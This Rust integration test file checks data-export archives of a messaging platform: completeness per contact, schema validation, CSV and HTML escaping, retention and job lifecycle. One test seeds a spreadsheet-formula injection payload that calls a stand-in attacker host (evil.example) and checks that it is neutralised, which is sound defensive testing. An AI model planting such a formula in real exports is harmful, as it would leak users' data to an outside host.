//! Export archives: complete by construction (every kind of item stored for a contact appears),
//! `data.json` valid against its published schema, every file readable, and the job lifecycle.

use mizan_test_support::on_both_backends;
use mizan_test_support::store as support;

use mizan_shared::adapters::local_archives::LocalArchives;
use mizan_shared::domain::audit::{Actor, AuditEvent};
use mizan_shared::domain::consent::{ConsentAction, ConsentEvent, ConsentSource, Purpose};
use mizan_shared::domain::contact::ContactProfile;
use mizan_shared::domain::export::{ExportJob, ExportScope, ExportState};
use mizan_shared::domain::ids::{ContactId, ExportId, Wamid};
use mizan_shared::domain::message::{
    DeliveryError, Direction, Message, MessageContent, MessageKind, Status,
};
use mizan_shared::domain::personal::Personal;
use mizan_shared::domain::tenant::Tenant;
use mizan_shared::domain::time::days;
use mizan_shared::ports::archives::ArchiveStore;
use mizan_shared::ports::clock::Clock;
use mizan_shared::ports::records::Query;
use mizan_shared::store::{layout, StatusFields};
use mizan_shared::workflows::export::{self, JobOutcome, DATA_SCHEMA};
use serde_json::Value;
use std::collections::{BTreeMap, HashSet};
use std::io::Read;
use support::Harness;

struct Seeded {
    tenant: Tenant,
    contact: ContactId,
    other: ContactId,
}

fn message(
    h: &Harness,
    t: &Tenant,
    c: &ContactId,
    wamid: &str,
    direction: Direction,
    body: &str,
) -> Message {
    let now = h.clock.now();
    let wamid = Wamid::new(wamid);
    let make = match direction {
        Direction::Inbound => Message::inbound,
        Direction::Outbound => Message::outbound,
    };
    make(
        t.id.clone(),
        c.clone(),
        h.store.message_id(&t.id, &wamid),
        wamid,
        MessageKind::Text,
        MessageContent(Personal::new(
            serde_json::json!({ "text": { "body": body } }),
        )),
        now,
    )
}

/// A contact with every kind of item Mizan stores for one: profile, aliases, inbound and
/// outbound messages (one past the chat retention), a status with errors, consent history,
/// an audit event and an export job.
async fn seed(h: &Harness) -> Seeded {
    let tenant = Tenant::new("Atlas Tea, \"Fès\" <branch>", h.clock.now());
    h.store.create_tenant(&tenant).await.unwrap();
    let profile = ContactProfile {
        wa_id: Some("212600000001".to_owned().into()),
        user_id: Some("MA.1234567890".to_owned().into()),
        username: Some("amina.b".to_owned().into()),
        name: Some("Amina <Benali>".to_owned().into()),
        ..ContactProfile::default()
    };
    let contact = h
        .store
        .upsert_contact(&tenant.id, &profile)
        .await
        .unwrap()
        .contact
        .value
        .id;
    let old = message(
        h,
        &tenant,
        &contact,
        "wamid.old",
        Direction::Inbound,
        "an old message",
    );
    h.store.put_message(&old).await.unwrap();
    h.clock.advance(days(40));
    let inbound = message(
        h,
        &tenant,
        &contact,
        "wamid.in",
        Direction::Inbound,
        "Bonjour, مرحبا, a \"quote\", a comma",
    );
    h.store.put_message(&inbound).await.unwrap();
    let outbound = message(
        h,
        &tenant,
        &contact,
        "wamid.out",
        Direction::Outbound,
        "Hello!",
    );
    h.store.put_message(&outbound).await.unwrap();
    // A person's answer, accepted and sent.
    let answer = Message::from_agent(
        tenant.id.clone(),
        contact.clone(),
        mizan_shared::domain::ids::ApiKeyId::new("key_0123456789ab"),
        MessageKind::Text,
        MessageContent::text("A person answers"),
        None,
        h.clock.now(),
    );
    let order = mizan_shared::store::OutboundOrder::for_message(&answer, None).unwrap();
    let accepted = AuditEvent::new(
        tenant.id.clone(),
        Actor::System("test".into()),
        "message.accepted",
        Some(contact.clone()),
        h.clock.now(),
    );
    h.store
        .accept_outbound(&answer, &order, None, &accepted)
        .await
        .unwrap();
    h.store
        .record_outbound_sent(&answer, &Wamid::new("wamid.agent"))
        .await
        .unwrap();
    h.store
        .record_status(
            &tenant.id,
            Some(&contact),
            &Wamid::new("wamid.out"),
            StatusFields {
                status: Status::Failed,
                at: h.clock.now(),
                errors: vec![DeliveryError {
                    code: 131047,
                    title: "Re-engagement message".into(),
                }],
                billing: None,
            },
        )
        .await
        .unwrap();
    let stop = ConsentEvent {
        tenant: tenant.id.clone(),
        contact: contact.clone(),
        at: h.clock.now(),
        purpose: Purpose::Marketing,
        action: ConsentAction::OptOut,
        source: ConsentSource::Keyword,
        evidence: inbound.id.to_string(),
        actor: "contact".into(),
    };
    h.store.record_consent(&stop, None).await.unwrap();
    h.store
        .claim_reply(&tenant.id, &contact, &inbound.id)
        .await
        .unwrap();
    h.store
        .record_opt_out_hint(&tenant.id, &contact, h.clock.now())
        .await
        .unwrap();
    h.store
        .append_audit(&AuditEvent::new(
            tenant.id.clone(),
            Actor::Admin,
            "contact.restricted",
            Some(contact.clone()),
            h.clock.now(),
        ))
        .await
        .unwrap();
    let other_profile = ContactProfile {
        wa_id: Some("212600000002".to_owned().into()),
        ..ContactProfile::default()
    };
    let other = h
        .store
        .upsert_contact(&tenant.id, &other_profile)
        .await
        .unwrap()
        .contact
        .value
        .id;
    h.store
        .put_message(&message(
            h,
            &tenant,
            &other,
            "wamid.other",
            Direction::Inbound,
            "someone else",
        ))
        .await
        .unwrap();
    Seeded {
        tenant,
        contact,
        other,
    }
}

fn job(h: &Harness, s: &Seeded, scope: ExportScope) -> ExportJob {
    ExportJob {
        id: ExportId::generate(),
        tenant: s.tenant.id.clone(),
        scope,
        state: ExportState::Pending,
        requested_at: h.clock.now(),
        expires_at: h.clock.now().plus(days(7)),
        requested_by: "key_1".into(),
        downloads: 0,
        last_audited_download_at: None,
        chat_request: None,
        download_limit: None,
    }
}

/// Every file of the archive, by name.
async fn unzip(archives: &LocalArchives, object_key: &str) -> BTreeMap<String, String> {
    let bytes = archives.read(object_key).await.unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut files = BTreeMap::new();
    for i in 0..zip.len() {
        let mut file = zip.by_index(i).unwrap();
        let mut text = String::new();
        file.read_to_string(&mut text).unwrap();
        files.insert(file.name().unwrap().into_owned(), text);
    }
    files
}

async fn exported(
    h: &Harness,
    archives: &LocalArchives,
    job: &ExportJob,
) -> BTreeMap<String, String> {
    h.store.create_export(job).await.unwrap();
    let outcome = export::run_job(&h.store, archives, &job.tenant, &job.id)
        .await
        .unwrap();
    let JobOutcome::Ready(built) = outcome else {
        panic!("not built: {outcome:?}")
    };
    let stored = h.store.export(&job.tenant, &job.id).await.unwrap().unwrap();
    assert_eq!(
        stored.value.state,
        ExportState::Ready {
            object_key: built.object_key.clone(),
            size_bytes: built.size_bytes
        }
    );
    unzip(archives, &built.object_key).await
}

async fn a_contact_export_holds_every_kind_of_item_stored_for_the_contact(h: Harness) {
    let dir = tempfile::tempdir().unwrap();
    let archives = LocalArchives::new(dir.path());
    let s = seed(&h).await;
    let files = exported(
        &h,
        &archives,
        &job(
            &h,
            &s,
            ExportScope::Contact {
                contact: s.contact.clone(),
            },
        ),
    )
    .await;
    let names: Vec<&str> = files.keys().map(String::as_str).collect();
    assert_eq!(
        names,
        [
            "README.txt",
            "consent.csv",
            "data.json",
            "index.html",
            "messages.csv"
        ]
    );
    let data: Value = serde_json::from_str(&files["data.json"]).unwrap();
    let contacts = data["contacts"].as_array().unwrap();
    assert_eq!(contacts.len(), 1, "only the requested contact");
    let c = &contacts[0];

    // Every record the store holds for the contact, by kind, appears in the export.
    let partition = h
        .records
        .query(
            &Query {
                limit: 1000,
                ..Query::prefix(layout::contact_partition(&s.tenant.id, &s.contact), "")
            },
            h.clock.now().minus(days(10_000)),
        )
        .await
        .unwrap();
    let message_ids: HashSet<&str> = c["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["id"].as_str().unwrap())
        .collect();
    let mut kinds = HashSet::new();
    for record in &partition.items {
        kinds.insert(record.kind.as_str());
        match record.kind.as_str() {
            layout::kind::CONTACT => assert_eq!(c["id"], s.contact.to_string()),
            layout::kind::MESSAGE_IN | layout::kind::MESSAGE_OUT => {
                let id = record.key.sk.strip_prefix(layout::MESSAGE_PREFIX).unwrap();
                assert!(message_ids.contains(id), "message {id} exported");
            }
            layout::kind::CONSENT => {}
            layout::REPLY_CLAIM_KIND => {
                let id = record
                    .key
                    .sk
                    .strip_prefix(layout::REPLY_CLAIM_PREFIX)
                    .unwrap();
                assert!(c["automated_replies"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|r| r["answers_message"] == id));
            }
            layout::REPLY_STATE_KIND => assert!(c["opt_out_hint_sent_at"].is_string()),
            // A person's send: its order and its wamid's route are the message's, exported as
            // the message (with its sender and outcome).
            layout::OUTBOUND_ORDER_KIND => {
                let id = record.key.sk.strip_prefix("SEND#").unwrap();
                assert!(
                    message_ids.contains(id),
                    "the order's message {id} exported"
                );
            }
            layout::WAMID_ROUTE_KIND => {
                let routed = record.doc["message"].as_str().unwrap();
                assert!(
                    message_ids.contains(routed),
                    "the routed message {routed} exported"
                );
            }
            other => panic!("a kind of contact item the export does not cover: {other}"),
        }
    }
    assert_eq!(kinds.len(), 8, "the seed covers every kind: {kinds:?}");
    let consent_records = partition
        .items
        .iter()
        .filter(|r| r.kind == layout::kind::CONSENT)
        .count();
    assert_eq!(
        c["consent_history"].as_array().unwrap().len(),
        consent_records
    );
    assert_eq!(c["consent"]["marketing"], "withdrawn");
    assert_eq!(c["wa_id"], "212600000001");
    assert_eq!(c["user_id"], "MA.1234567890");
    assert_eq!(c["username"], "amina.b");
    assert_eq!(c["name"], "Amina <Benali>");
    // Content where still retained, null where retention removed it; statuses and errors kept.
    let messages = c["messages"].as_array().unwrap();
    assert_eq!(messages.len(), 4);
    let by_text = |t: &str| messages.iter().find(|m| m["text"] == t).cloned();
    let person = by_text("A person answers").unwrap();
    assert_eq!(
        (person["sender"].as_str(), person["direction"].as_str()),
        (Some("agent"), Some("outbound"))
    );
    assert_eq!(by_text("Hello!").unwrap()["sender"], "ai");
    assert!(by_text("Bonjour, مرحبا, a \"quote\", a comma").is_some());
    let out = by_text("Hello!").unwrap();
    assert_eq!(out["status"], "failed");
    assert_eq!(out["errors"][0]["code"], 131047);
    assert!(
        messages.iter().any(|m| m["content"].is_null()),
        "the 40-day-old content is gone"
    );
    assert!(!files["data.json"].contains("an old message"));
    // Audit events about the contact, and only those.
    let audit = data["audit"].as_array().unwrap();
    assert!(audit.iter().all(|a| a["contact"] == s.contact.to_string()));
    assert!(audit.iter().any(|a| a["action"] == "contact.restricted"));
    // Nobody else's data.
    assert!(!files
        .values()
        .any(|f| f.contains("someone else") || f.contains(s.other.as_str())));
}

async fn data_json_validates_against_its_published_schema(h: Harness) {
    let dir = tempfile::tempdir().unwrap();
    let archives = LocalArchives::new(dir.path());
    let s = seed(&h).await;
    let schema: Value = serde_json::from_str(DATA_SCHEMA).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    for scope in [
        ExportScope::Contact {
            contact: s.contact.clone(),
        },
        ExportScope::Tenant,
    ] {
        let files = exported(&h, &archives, &job(&h, &s, scope)).await;
        let data: Value = serde_json::from_str(&files["data.json"]).unwrap();
        let errors: Vec<String> = validator
            .iter_errors(&data)
            .map(|e| format!("{e} at {}", e.instance_path()))
            .collect();
        assert!(errors.is_empty(), "{errors:#?}");
    }
}

async fn the_csv_files_and_the_page_read_back(h: Harness) {
    let dir = tempfile::tempdir().unwrap();
    let archives = LocalArchives::new(dir.path());
    let s = seed(&h).await;
    let files = exported(&h, &archives, &job(&h, &s, ExportScope::Tenant)).await;
    let mut messages = csv::Reader::from_reader(files["messages.csv"].as_bytes());
    let headers = messages.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = messages.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 5, "both contacts' messages");
    let sender = headers.iter().position(|h| h == "sender").unwrap();
    assert!(rows.iter().any(|r| &r[sender] == "agent"));
    let text = headers.iter().position(|h| h == "text").unwrap();
    assert!(rows
        .iter()
        .any(|r| &r[text] == "Bonjour, مرحبا, a \"quote\", a comma"));
    let mut consent = csv::Reader::from_reader(files["consent.csv"].as_bytes());
    let rows: Vec<csv::StringRecord> = consent.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][2], "marketing");
    let page = &files["index.html"];
    assert!(page.contains("Amina &lt;Benali&gt;"), "names are escaped");
    assert!(page.contains("Atlas Tea, \"Fès\" &lt;branch&gt;"));
    assert!(!page.contains("<Benali>"));
    assert!(page.contains("(removed after the retention period)"));
    assert!(files["README.txt"].contains("data.json"));
}

async fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(h: Harness) {
    let dir = tempfile::tempdir().unwrap();
    let archives = LocalArchives::new(dir.path());
    let s = seed(&h).await;
    let formula = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Click\")";
    let attack = message(
        &h,
        &s.tenant,
        &s.contact,
        "wamid.formula",
        Direction::Inbound,
        formula,
    );
    h.store.put_message(&attack).await.unwrap();
    let files = exported(&h, &archives, &job(&h, &s, ExportScope::Tenant)).await;
    let mut messages = csv::Reader::from_reader(files["messages.csv"].as_bytes());
    let text = messages
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "text")
        .unwrap();
    let cells: Vec<String> = messages
        .records()
        .map(|r| r.unwrap()[text].to_owned())
        .collect();
    assert!(cells.contains(&format!("'{formula}")), "{cells:?}");
    assert!(!cells.iter().any(|c| c.starts_with('=')), "{cells:?}");
    let data: Value = serde_json::from_str(&files["data.json"]).unwrap();
    assert!(
        data.to_string().contains("=HYPERLINK("),
        "data.json keeps the text verbatim"
    );
}

async fn jobs_are_built_once_and_fail_when_their_contact_is_gone(h: Harness) {
    let dir = tempfile::tempdir().unwrap();
    let archives = LocalArchives::new(dir.path());
    let s = seed(&h).await;
    let first = job(
        &h,
        &s,
        ExportScope::Contact {
            contact: s.contact.clone(),
        },
    );
    exported(&h, &archives, &first).await;
    assert_eq!(
        export::run_job(&h.store, &archives, &s.tenant.id, &first.id)
            .await
            .unwrap(),
        JobOutcome::AlreadyDone,
        "a retried stream record builds nothing more"
    );
    let files_before =
        std::fs::read_dir(dir.path().join(format!("exports/exports/{}", s.tenant.id)))
            .unwrap()
            .count();
    assert_eq!(files_before, 1);

    let doomed = job(
        &h,
        &s,
        ExportScope::Contact {
            contact: s.other.clone(),
        },
    );
    h.store.create_export(&doomed).await.unwrap();
    h.store.erase_contact(&s.tenant.id, &s.other).await.unwrap();
    let outcome = export::run_job(&h.store, &archives, &s.tenant.id, &doomed.id)
        .await
        .unwrap();
    assert!(
        matches!(outcome, JobOutcome::Failed(_) | JobOutcome::Missing),
        "{outcome:?}"
    );
    let files_after =
        std::fs::read_dir(dir.path().join(format!("exports/exports/{}", s.tenant.id)))
            .unwrap()
            .count();
    assert_eq!(files_after, 1, "no archive of an erased contact");
    assert_eq!(
        export::run_job(&h.store, &archives, &s.tenant.id, &ExportId::generate())
            .await
            .unwrap(),
        JobOutcome::Missing
    );
}

on_both_backends!(
    a_contact_export_holds_every_kind_of_item_stored_for_the_contact,
    data_json_validates_against_its_published_schema,
    the_csv_files_and_the_page_read_back,
    csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised,
    jobs_are_built_once_and_fail_when_their_contact_is_gone,
);
